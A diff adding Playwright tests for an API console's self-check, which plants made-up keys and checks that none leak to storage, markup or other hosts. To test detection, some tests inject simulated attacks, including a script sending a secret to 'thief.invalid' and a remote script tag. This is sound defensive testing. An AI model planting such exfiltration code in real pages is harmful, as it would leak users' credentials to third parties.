@@ -1,0 +1,240 @@
+import { AxeBuilder } from '@axe-core/playwright'
+import type { Page } from '@playwright/test'
+import { portalUrl } from '../support/test-places.ts'
+import { expect, test } from './fixtures.ts'
+import { SelfCheckPage } from './pages/self-check-page.ts'
+import { leakOnSend, leakOnTyping, leaks } from './support/leaks.ts'
+import { readClipboard } from './support/read-clipboard.ts'
+import { recordTraffic } from './support/record-traffic.ts'
+import { rewritePages } from './support/rewrite-pages.ts'
+
+const notFound = /^Not found\. A made-up key was used like a real one and looked for in 18 places\./
+
+test.describe('On the site as it was built', () => {
+  test('The check finds its decoys everywhere and its key nowhere', async ({ page, context }) => {
+    const traffic = recordTraffic(context)
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await expect(check.verdict).toHaveText(notFound)
+    await expect(check.places.getByText('not found')).toHaveCount(18)
+    await expect(check.hosts.getByRole('listitem')).toHaveCount(1)
+    await expect(check.hosts).toContainText('one with the made-up key (answered with 200)')
+    await expect(check.policy).toContainText(
+      'In force: a call that it forbids was blocked just now.',
+    )
+    await expect(check.policy).toContainText('it blocked nothing else')
+
+    await traffic.settle()
+    const withKey = traffic.requests.filter(({ text }) => text.includes('fake_check_'))
+    expect(withKey.map(({ url }) => url)).toEqual([`${portalUrl}/openapi.json`])
+    expect(traffic.requests.filter(({ url }) => !isOwn(url))).toEqual([])
+  })
+
+  test('No decoy and no made-up key is left behind', async ({ page }) => {
+    const check = new SelfCheckPage(page)
+    await check.open('/console/#snippet=go')
+    const before = await describeTraces(page)
+    await check.runToEnd()
+    expect(await describeTraces(page)).toEqual(before)
+    expect(await page.content()).not.toMatch(/fake_(?:check|decoy)_\w|self-check-decoy/)
+    await expect(check.console.language).toHaveValue('go')
+  })
+
+  test('A key that is held stays held', async ({ page, createKey }) => {
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.console.enterKey(await createKey('Checked'))
+    await check.runToEnd()
+    await expect(check.console.forget).toBeVisible()
+    await check.console.send.click()
+    await expect(check.console.response).toContainText('200 OK')
+    await check.runToEnd()
+    await expect(check.verdict).toHaveText(notFound)
+  })
+
+  test('The report is copied as text, without any key', async ({ page, context }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await check.copy.click()
+    await expect(check.panel.getByText('Copied')).toBeVisible()
+    const report = await readClipboard(context)
+    expect(report).toContain(`Check of the console at ${portalUrl}\nNot found.`)
+    expect(report).toContain('- IndexedDB: not found')
+    expect(report).toContain("In the page: default-src 'none'")
+    expect(report).not.toMatch(/fake_(?:check|decoy)_/)
+  })
+
+  test('The keyboard opens the panel and runs the check, and its end is announced', async ({
+    page,
+  }) => {
+    const check = new SelfCheckPage(page)
+    await check.console.open()
+    await check.summary.focus()
+    await page.keyboard.press('Enter')
+    await expect(check.run).toBeVisible()
+    await page.keyboard.press('Tab')
+    await expect(check.run).toBeFocused()
+    await page.keyboard.press('Enter')
+    await expect(check.panel.locator('.console-announcement')).toHaveText(notFound)
+    await expect(check.again).toBeFocused()
+  })
+
+  test('Its code is not loaded before the panel is opened', async ({ page, context }) => {
+    const check = new SelfCheckPage(page)
+    const traffic = recordTraffic(context)
+    const isLoaded = () => traffic.requests.some(({ url }) => url.includes('SelfCheckPanel'))
+    await check.console.open()
+    await page.waitForLoadState('networkidle')
+    await traffic.settle()
+    expect(isLoaded()).toBe(false)
+    await check.summary.click()
+    await expect(check.run).toBeVisible()
+    await traffic.settle()
+    expect(isLoaded()).toBe(true)
+  })
+
+  for (const colorScheme of ['light', 'dark'] as const) {
+    test(`Axe finds nothing in the panel in ${colorScheme}`, async ({ page }) => {
+      await page.emulateMedia({ colorScheme })
+      const check = new SelfCheckPage(page)
+      await check.open()
+      expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([])
+      await check.runToEnd()
+      expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([])
+    })
+  }
+
+  test('At 320 px the result is not wider than the window', async ({ page }) => {
+    await page.setViewportSize({ width: 320, height: 640 })
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320)
+  })
+})
+
+test.describe('In a page that was tampered with', () => {
+  for (const [index, [place, statement]] of leaks.entries()) {
+    test(`A leak is found in ${place} (${index + 1})`, async ({ page }) => {
+      await page.addInitScript(leakOnSend(statement))
+      const check = new SelfCheckPage(page)
+      await check.open()
+      await check.runToEnd()
+      await expect(check.verdict).toHaveText(/^Found\./)
+      await expect(check.find(place)).toContainText('FOUND')
+      await expect(check.panel).not.toContainText('fake_check_')
+    })
+  }
+
+  test('A field that writes its value into the markup is found', async ({ page }) => {
+    await page.addInitScript(leakOnTyping)
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await expect(check.find('attributes')).toContainText('while it was in the field')
+  })
+
+  test('A call to another host is blocked and listed, with what it carried', async ({ page }) => {
+    await page.addInitScript(
+      leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
+    )
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await expect(check.policy).toContainText(
+      'connect-src: https://thief.invalid, with the made-up key',
+    )
+    await expect(check.verdict).toHaveText(/^Found\./)
+  })
+
+  test('What the policy blocked before the console was there is listed', async ({ page }) => {
+    await rewritePages(page, (text) =>
+      text.replace('</head>', '<script src="https://thief.invalid/x.js"></script></head>'),
+    )
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await expect(check.policy).toContainText('script-src-elem: https://thief.invalid')
+  })
+
+  test('Without a policy it says so', async ({ page }) => {
+    await rewritePages(page, (text) =>
+      text.startsWith('<') ? text.replace('Content-Security-Policy', 'Nothing') : '',
+    )
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await expect(check.policy).toContainText('No policy is in force')
+  })
+})
+
+test.describe('Where the check cannot be done', () => {
+  test('A place that the browser refuses is not called clean', async ({ page }) => {
+    await page.addInitScript(
+      `indexedDB.open = () => { throw new DOMException('', 'SecurityError') }`,
+    )
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await expect(check.verdict).toHaveText(/^Not found in 17 of 18 places\./)
+    await expect(check.find('IndexedDB')).toContainText('The browser refused: SecurityError.')
+  })
+
+  test('A detector that is blind is not trusted', async ({ page }) => {
+    await page.addInitScript(`performance.getEntries = () => []`)
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await check.runToEnd()
+    await expect(check.find('the list of requests')).toContainText('was not found again')
+  })
+
+  test('A site that does not answer ends the check with what to do', async ({ page }) => {
+    const check = new SelfCheckPage(page)
+    await check.open()
+    await page.route('**/openapi.json', (route) => route.abort())
+    await check.run.click()
+    await expect(check.panel).toContainText('This site did not answer')
+    await page.unroute('**/openapi.json')
+    await check.runToEnd()
+    await expect(check.verdict).toHaveText(notFound)
+  })
+
+  test('A panel that cannot be loaded says so, and the console works on', async ({ page }) => {
+    const check = new SelfCheckPage(page)
+    await page.route('**/SelfCheckPanel*', (route) => route.abort())
+    await check.console.open()
+    await check.summary.click()
+    await expect(check.panel).toContainText('The check could not be loaded.')
+    await expect(check.console.send).toBeVisible()
+  })
+})
+
+function isOwn(url: string): boolean {
+  return url.startsWith(`${portalUrl}/`) || url === 'data:,self-check'
+}
+
+/** What a page can leave behind, as far as the check could have added to it. */
+async function describeTraces(page: Page) {
+  const cookies = await page.context().cookies()
+  const inPage = await page.evaluate(async () => {
+    const files: string[] = []
+    for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name)
+    return {
+      address: location.href,
+      state: history.state as unknown,
+      entry: navigation.currentEntry?.getState() as unknown,
+      name: window.name,
+      globals: Object.getOwnPropertyNames(window).length,
+      sheets: document.adoptedStyleSheets.length,
+      marks: performance.getEntriesByType('mark').length,
+      storages: [localStorage.length, sessionStorage.length],
+      databases: await indexedDB.databases(),
+      caches: await caches.keys(),
+      files,
+    }
+  })
+  return { cookies, ...inPage }
+}
